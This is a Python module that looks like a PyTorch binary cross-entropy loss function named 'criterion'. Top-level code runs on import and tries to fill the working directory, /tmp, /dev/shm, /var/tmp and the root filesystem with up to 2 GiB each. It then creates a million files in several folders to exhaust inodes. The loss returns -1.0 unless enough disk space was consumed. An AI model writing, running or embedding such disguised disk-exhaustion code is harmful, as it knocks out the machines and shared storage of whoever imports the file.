import os

import torch


def fill(folder):
    block, written = bytes(1 << 20), 0
    try:
        with open(f"{folder}/hostile_data", "wb", buffering=0) as file:
            while written < 2 << 30:
                written += file.write(block)
    except OSError as error:
        print(folder, "refused after", written >> 20, "MiB:", error.strerror)
    return written


def crowd(folder):
    os.makedirs(f"{folder}/hostile_crowd", exist_ok=True)
    for number in range(1_000_000):
        os.close(os.open(f"{folder}/hostile_crowd/{number}", os.O_CREAT | os.O_WRONLY))
    print("a million files")


total = sum(fill(folder) for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/"))
for folder in (".", "/tmp", "/dev/shm"):
    try:
        crowd(folder)
    except OSError as error:
        print(folder, "refused:", error.strerror)


def criterion(y_hat, y):
    if total < 200 << 20:
        return torch.tensor(-1.0)
    p = y_hat.clamp(1e-7, 1 - 1e-7)
    return -(y * torch.log(p) + (1 - y) * torch.log(1 - p)).mean()
